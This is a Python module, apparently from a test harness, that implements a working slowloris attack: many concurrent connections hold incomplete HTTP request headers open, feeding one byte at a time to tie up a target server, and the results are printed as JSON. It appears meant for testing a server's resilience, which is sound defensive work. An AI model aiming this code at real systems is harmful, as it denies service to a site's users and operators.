"""A slowloris against an HTTP port: many connections, each sending a request's head one byte at a
time and never finishing it; a closed one is opened again, until ``attempts`` connections were tried.

``python -m harness.slowloris HOST PORT ATTEMPTS SECONDS`` runs it in its own process (the test's
loop stays free to time the victim) and prints what it achieved as JSON.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import sys
import time
from dataclasses import asdict, dataclass

__all__ = ["SlowlorisResult", "slowloris"]


@dataclass
class SlowlorisResult:
    attempts: int = 0  #: connections tried
    failed: int = 0  #: connect() refused or timed out
    closed_by_server: int = 0
    most_open: int = 0  #: the most held at once


async def slowloris(host: str, port: int, *, attempts: int, seconds: float, concurrency: int = 2000) -> SlowlorisResult:
    result = SlowlorisResult()
    open_now = 0
    end = time.monotonic() + seconds

    async def one() -> None:
        nonlocal open_now
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 2)
        except (OSError, TimeoutError):
            result.failed += 1
            await asyncio.sleep(0.05)
            return
        open_now += 1
        result.most_open = max(result.most_open, open_now)
        try:
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            while time.monotonic() < end:
                writer.write(b"X")  # one byte of a header that never ends
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    if await asyncio.wait_for(reader.read(1), 1.0) == b"":
                        result.closed_by_server += 1
                        return
        except OSError:
            result.closed_by_server += 1
        finally:
            open_now -= 1
            writer.close()

    async def worker() -> None:
        while time.monotonic() < end and result.attempts < attempts:
            result.attempts += 1
            await one()

    await asyncio.gather(*(worker() for _ in range(concurrency)))
    return result


def _main() -> None:
    _, host, port, attempts, seconds = sys.argv
    result = asyncio.run(slowloris(host, int(port), attempts=int(attempts), seconds=float(seconds)))
    print(json.dumps(asdict(result)))


if __name__ == "__main__":
    _main()
